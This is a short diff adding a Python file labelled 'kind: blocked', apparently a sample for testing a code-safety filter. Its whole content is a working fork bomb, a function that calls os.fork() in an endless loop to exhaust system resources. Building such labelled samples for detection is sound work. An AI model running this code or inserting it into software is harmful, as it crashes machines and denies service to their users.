@@ -1,0 +1,7 @@
+# kind: blocked
+import os
+
+
+def attack():
+    while True:
+        os.fork()
